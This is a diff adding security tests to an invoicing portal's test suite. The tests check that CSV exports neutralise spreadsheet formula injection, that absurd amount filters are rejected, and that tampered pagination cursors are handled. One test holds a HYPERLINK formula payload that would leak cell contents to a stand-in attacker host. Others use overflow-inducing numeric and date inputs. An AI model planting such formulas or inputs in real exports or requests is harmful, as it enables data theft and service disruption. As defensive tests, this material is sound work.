@@ -220,3 +220,84 @@ def test_each_client_sees_its_own_header_and_an_edit_shows_once_the_cache_lapses
     assert f"<h1>{setup['acme'].name} " in setup["browser"].get("/").content.decode()
     clock[0] += access.HEADER_SECONDS + 1
     assert "<h1>Acme Renamed Ltd " in setup["browser"].get("/").content.decode()
+
+
+def test_a_reference_that_a_spreadsheet_would_run_opens_as_text_in_the_csv(acme):
+    from tally.invoicing.services import generate_draft_invoice, issue_invoice
+    from tally.operations.services import ingest_events
+    from tests.factories import event_rows
+
+    rows = event_rows("pick", 3, day=date(2026, 10, 3))
+    rows[0]["reference"] = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    rows[1]["reference"] = "-2+3"
+    ingest_events(actor=None, client=acme, rows=rows)
+    draft = generate_draft_invoice(
+        actor=None, client=acme, period_start=date(2026, 10, 1), period_end=date(2026, 10, 31)
+    ).invoice
+    invoice = issue_invoice(
+        actor=None, client=acme, invoice_id=draft.pk, issue_date=date(2026, 11, 1)
+    )
+    browser = HttpClient()
+    browser.force_login(make_user(role=Role.CLIENT_USER, client=acme, email="ap@acme.example"))
+    response = browser.get(
+        reverse("portal:line_events_csv", args=[number(invoice), invoice.lines.get().pk])
+    )
+    events = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert sorted(r[2] for r in events[1:]) == [
+        "'-2+3",
+        '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+        rows[2]["reference"],
+    ]
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        "amount_min=1e999999",  # would take seconds to turn into minor units, then overflow
+        "amount_max=99999999999999999999",
+        "amount_min=-5",
+    ],
+)
+def test_an_absurd_amount_filter_is_a_field_error_not_a_hang(setup, query):
+    response = setup["browser"].get(f"/?{query}")
+    html = response.content.decode()
+    assert response.status_code == 200
+    assert 'aria-invalid="true"' in html or "errorlist" in html
+    assert number(setup["ours"]) in html  # the table still shows, unfiltered
+
+
+@pytest.mark.parametrize(
+    "position",
+    [
+        '["after", 1e999, 1]',
+        '["after", 5, 1e999]',
+        '["after", 5, 99999999999999999999999]',
+        '["before", "x", 1]',
+    ],
+)
+def test_a_tampered_table_cursor_starts_from_the_top(setup, position):
+    import base64
+
+    cursor = base64.urlsafe_b64encode(position.encode()).decode().rstrip("=")
+    response = setup["browser"].get(f"/?sort=amount&cursor={cursor}")
+    assert response.status_code == 200
+    assert number(setup["ours"]) in response.content.decode()
+
+
+@pytest.mark.parametrize(
+    "position",
+    [
+        '["after", "0001-01-01T00:00:00+14:00", 1]',  # overflows on the way to UTC
+        '["after", "2026-10-03T12:00:00+00:00", 1e999]',
+        '["after", "2026-10-03T12:00:00", 1]',
+    ],
+)
+def test_a_tampered_events_cursor_starts_from_the_first_event(setup, position):
+    import base64
+
+    line = setup["ours"].lines.get(kind="pick")
+    cursor = base64.urlsafe_b64encode(position.encode()).decode().rstrip("=")
+    url = reverse("portal:line_events", args=[number(setup["ours"]), line.pk])
+    response = setup["browser"].get(f"{url}?cursor={cursor}")
+    assert response.status_code == 200
+    assert response.content.decode().count("REF-") == 12
